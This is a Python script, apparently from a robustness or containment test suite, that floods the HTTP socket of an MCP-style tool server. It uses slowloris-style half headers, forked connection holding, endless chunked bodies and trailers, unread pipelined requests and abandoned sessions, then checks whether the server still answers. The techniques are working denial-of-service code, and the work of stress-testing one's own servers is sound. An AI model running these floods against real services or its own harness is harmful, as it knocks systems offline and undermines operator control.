"""Exhausts the HTTP socket of its seat: connections, partial requests, endless bodies, sessions."""

from __future__ import annotations

import os
import socket
import time
from collections.abc import Callable

from attempts import attempt, say
from speak_http import ask, connect, greeting, request

PROCESSES = 8
EACH = 150
HOLD_S = 1.5
SPEND_S = 1.0
SESSIONS = 300


def hold(octets: bytes) -> int:
    """Open many connections, send some bytes on each, and return how many were accepted."""
    held: list[socket.socket] = []
    try:
        for _ in range(EACH):
            held.append(connect())
            held[-1].sendall(octets)
    except OSError:
        pass
    time.sleep(HOLD_S)
    return len(held)


def in_many_processes(octets: bytes) -> str:
    for _ in range(PROCESSES):
        if os.fork() == 0:
            hold(octets)
            os._exit(0)
    for _ in range(PROCESSES):
        os.wait()
    return ""


def send_for_a_while(begin: bytes, piece: bytes) -> str:
    """Send a message that never ends."""
    sent, end = 0, time.monotonic() + SPEND_S
    with connect() as connection:
        try:
            connection.sendall(begin)
            while time.monotonic() < end:
                connection.sendall(piece)
                sent += len(piece)
            answer = "read on"
        except OSError as error:
            answer = f"hung up: {error}"
    say(f"tried {begin[:24]!r} without end: {answer} after {sent} bytes")
    return ""


def never_read() -> str:
    """Send requests on one connection and read no response."""
    return send_for_a_while(b"", request("GET", "/task") * 50)


def sessions() -> str:
    """Open MCP sessions and abandon them."""
    hello = greeting("x" * 20_000)
    with connect() as connection:
        try:
            for _ in range(SESSIONS):
                connection.sendall(hello)
                connection.recv(65536)
        except OSError as error:
            say(f"tried one more session: {error}")
    return ""


FLOODS: dict[str, Callable[[], object]] = {
    "connections that say nothing": lambda: in_many_processes(b""),
    "half heads": lambda: in_many_processes(b"POST /call/list_dir HTTP/1.1\r\nhost:"),
    "half bodies": lambda: in_many_processes(
        request("POST", "/call/list_dir", b"{", "content-length: 4000000")
    ),
    "a head without end": lambda: send_for_a_while(
        b"GET /task HTTP/1.1\r\n", b"x-more: " + b"y" * 4000 + b"\r\n"
    ),
    "a body without end": lambda: send_for_a_while(
        request("POST", "/call/list_dir", b"", "transfer-encoding: chunked"),
        b"4000\r\n" + b"y" * 0x4000 + b"\r\n",
    ),
    "a trailer without end": lambda: send_for_a_while(
        request("POST", "/call/list_dir", b"2\r\n{}\r\n0\r\n", "transfer-encoding: chunked"),
        b"x: " + b"y" * 4000 + b"\r\n",
    ),
    "unread answers": never_read,
    "open sessions": sessions,
}

for what, flood in FLOODS.items():
    attempt(what, flood)
say(f"tried to be answered afterwards: {ask('GET', '/task')}")
